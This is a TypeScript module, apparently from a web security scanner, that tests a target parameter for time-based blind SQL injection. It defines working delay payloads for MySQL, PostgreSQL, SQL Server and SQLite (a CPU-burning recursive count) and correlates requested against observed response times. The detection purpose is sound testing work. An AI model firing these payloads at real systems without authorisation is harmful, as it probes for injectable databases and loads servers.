import type { Exchange } from '../../model.ts';
import type { Target } from '../injection.ts';

type Payload = (text: string, seconds: number) => string;

/**
 * Ways to make a database wait, by dialect, for text and for numbers: in an expression that is always computed, and once,
 * however many rows there are. SQLite cannot wait: it is made to count.
 */
const TEXT: readonly Payload[] = [
  (text, seconds) => `${text}'+(SELECT*FROM(SELECT(SLEEP(${seconds})))x)+'`,
  (text, seconds) => `${text}'||(SELECT '' FROM pg_sleep(${seconds}))||'`,
  (text, seconds) => `${text}';WAITFOR DELAY '0:0:${seconds}'-- `,
  (text, seconds) => `${text}'||(SELECT '' WHERE 0<${counting(seconds)})||'`,
];
const NUMBER: readonly Payload[] = [
  (text, seconds) => `${text}+(SELECT*FROM(SELECT(SLEEP(${seconds})))x)`,
  (text, seconds) => `${text}+(SELECT 0 FROM pg_sleep(${seconds}))`,
  (text, seconds) => `${text};WAITFOR DELAY '0:0:${seconds}'`,
  (text, seconds) => `${text}+0*${counting(seconds)}`,
];

/** Rows that SQLite counts in a third of a second to a second. Nothing is stored, so only a processor is kept busy. */
const ROWS_A_SECOND = 1_500_000;

function counting(seconds: number): string {
  const rows = seconds * ROWS_A_SECOND + 1;
  return `(WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x<${rows}) SELECT count(*) FROM c)`;
}

/** Seconds asked for, up and down: what is slow for another reason does not follow. */
const ASKED_S: readonly number[] = [0, 1, 0, 2, 0, 3];
/** Correlation of asked and passed time that is a proof. */
const CORRELATION_MIN = 0.95;
/** Seconds that have to pass for each asked. Machines compute at their own speed, so there is no most. */
const SLOPE_MIN = 0.15;

export interface Wait {
  readonly reason: string;
  readonly evidence: readonly Exchange[];
}

/** Does the answer wait as long as a database is told to? `null` where it does not, for any dialect. */
export async function waits(target: Target): Promise<Wait | null> {
  for (const payload of /^-?\d+$/.test(target.text) ? [...NUMBER, ...TEXT] : TEXT) {
    const first = await target.send(payload(target.text, 0));
    const second = await target.send(payload(target.text, 1));
    if (second.latency_ms - first.latency_ms < SLOPE_MIN * 1_000) continue;
    const seen: Exchange[] = [];
    for (const asked of ASKED_S) seen.push(await target.send(payload(target.text, asked)));
    const passed = seen.map(({ latency_ms }) => latency_ms / 1_000);
    const { correlation, slope } = regression(ASKED_S, passed);
    if (correlation < CORRELATION_MIN || slope < SLOPE_MIN) continue;
    const times = passed.map((time) => time.toFixed(2)).join(', ');
    return {
      reason: `asked to wait ${ASKED_S.join(', ')}, the answer takes ${times} seconds (correlation ${correlation.toFixed(3)})`,
      evidence: [seen[0]!, seen[1]!, seen[5]!],
    };
  }
  return null;
}

/** Pearson's correlation and the slope of the line of least squares. */
export function regression(asked: readonly number[], passed: readonly number[]): { readonly correlation: number; readonly slope: number } {
  const mean = (values: readonly number[]): number => values.reduce((sum, value) => sum + value, 0) / values.length;
  const [x, y] = [mean(asked), mean(passed)];
  const sum = (product: (index: number) => number): number => asked.reduce((total, _, index) => total + product(index), 0);
  const both = sum((index) => (asked[index]! - x) * (passed[index]! - y));
  const across = sum((index) => (asked[index]! - x) ** 2);
  const up = sum((index) => (passed[index]! - y) ** 2);
  return { correlation: up === 0 ? 0 : both / Math.sqrt(across * up), slope: both / across };
}
